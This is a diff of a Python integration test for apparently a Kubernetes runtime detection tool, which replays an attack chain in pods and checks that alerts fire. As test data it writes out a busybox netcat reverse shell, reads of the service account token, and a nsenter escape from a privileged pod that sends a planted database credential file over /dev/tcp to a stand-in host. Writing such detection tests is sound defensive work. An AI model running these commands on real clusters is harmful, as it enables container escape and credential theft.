@@ -5,15 +5,10 @@ critical right after a token was stolen. Ordinary pods and the cluster's own are
 """
 
 import concurrent.futures
-import ctypes
-import pathlib
-import shutil
-import subprocess
-import tempfile
 import unittest
 
 from containerd import UNCONFINED, Containerd
-from harness import ROOT, Listener
+from harness import ROOT
 from quiet import SCALE, Quiet
 from watched import ELSEWHERE, Watched
 
@@ -25,7 +20,6 @@ STOLEN = "Container with rights over the node started after a token was stolen"
 UNFILTERED = "Container started without a seccomp filter"
 ALL = {PRIVILEGED, NAMESPACES, FILES, NOT_ROOT, STOLEN}
 
-CLONE_NEWNET = 0x40000000
 NODE_PID = 2  # NamespaceMode
 RUNTIME_DEFAULT = 0  # ProfileType
 TOKEN_DIRECTORY = "/var/run/secrets/kubernetes.io/serviceaccount"
@@ -97,31 +91,10 @@ class Pods(Watched):
         self.assertGreater(alert["time"], read["time"])
         self.assertEqual(len(self.watch.matching(lambda a: a["rule"] == STOLEN and a["container_id"] == made)), 1)
 
-    def listener(self, port=0, address=None):
-        """In the network of the pods."""
-        setns = ctypes.CDLL(None, use_errno=True).setns
-        with open("/proc/self/ns/net", "rb") as own, open(f"/proc/{self.containerd.process.pid}/ns/net", "rb") as pods:
-            self.assertEqual(setns(pods.fileno(), CLONE_NEWNET), 0)
-            try:
-                listener = Listener(port, address=address)
-            finally:
-                self.assertEqual(setns(own.fileno(), CLONE_NEWNET), 0)
-        self.addCleanup(listener.close)
-        return listener
-
-    def secret(self):
-        """A file with credentials where a database of the node keeps its own."""
-        base = pathlib.Path("/var/lib/postgresql")
-        made = not base.exists()
-        base.mkdir(exist_ok=True)
-        directory = pathlib.Path(tempfile.mkdtemp(prefix="nezuban-", dir=base))
-        self.addCleanup(shutil.rmtree, base if made else directory)
-        (directory / "pg_authid").write_text("postgres SCRAM-SHA-256\n")
-        return directory / "pg_authid"
-
     def test_with_the_whole_attack_in_order(self):
         """As in test_scenario.py, by the calls that a kubelet makes: each alert names the pod."""
-        kubelet, api, attacker = self.listener(10250), self.listener(self.api_server.port), self.listener()
+        node = self.containerd.process.pid  # in whose network the pods are
+        kubelet, api, attacker = (self.listener(port, network_of=node) for port in (10250, self.api_server.port, 0))
         victim = self.run_pod("web-2", mounts=[self.token])
         call = "/bin/busybox nc 127.0.0.1 10250 </dev/null; sleep 1000"
         foothold = self.run_pod("blog-2", command=("/bin/sh", "-c", call))
@@ -131,21 +104,21 @@ class Pods(Watched):
         with concurrent.futures.ThreadPoolExecutor(1) as pool:
             session = pool.submit(self.containerd.exec, victim, "/bin/busybox", "nc", "127.0.0.1", str(attacker.port),
                                   "-e", "/bin/sh")
-            heard, _ = attacker.converse(
-                f"/bin/busybox cat {TOKEN_DIRECTORY}/token; /bin/busybox cp /bin/busybox /bin/kubectl; /bin/kubectl; "
-                f"(/bin/busybox nc 127.0.0.1 {api.port} </dev/null &)")
-            api.accept()[0].close()
-            session.exception()
-        self.assertIn("not-a-token", heard)
+            try:
+                heard, _ = attacker.converse(
+                    f"/bin/busybox cat {TOKEN_DIRECTORY}/token; /bin/busybox cp /bin/busybox /bin/kubectl; "
+                    f"/bin/kubectl; (/bin/busybox nc 127.0.0.1 {api.port} </dev/null &)")
+                api.accept()[0].close()
+            except OSError as error:
+                raise AssertionError(f"{error!r}; of the session: {session.exception()!r}") from None
+        self.assertIn("not-a-token", heard, session.exception())
         for rule in ("Command run in a container after an unexpected kubelet call", "Reverse shell",
                      "Service account token read by a visitor", "Program written into the container executed",
                      "Kubernetes API called by a visitor"):
             steps.append(self.expect_pod(rule, victim, "web-2"))
 
-        secret = self.secret()
-        subprocess.run(["nsenter", "-t", str(self.containerd.process.pid), "-n", "ip", "address", "replace",
-                        f"{ELSEWHERE}/32", "dev", "lo"], check=True)
-        elsewhere = self.listener(address=ELSEWHERE)
+        secret = self.database()
+        elsewhere = self.another_machine(network_of=node)
         send = f"read line <{secret}; exec 3<>/dev/tcp/{ELSEWHERE}/{elsewhere.port}; cat {secret} >&3"
         way_out = f"/bin/busybox nsenter -t {self.service.pid} -m /bin/bash -c '{send}'; sleep 1000"
         made = self.run_pod("proxy-2", "kube-system", privileged=True, pid=NODE_PID, mounts=[("/", "/host", False)],
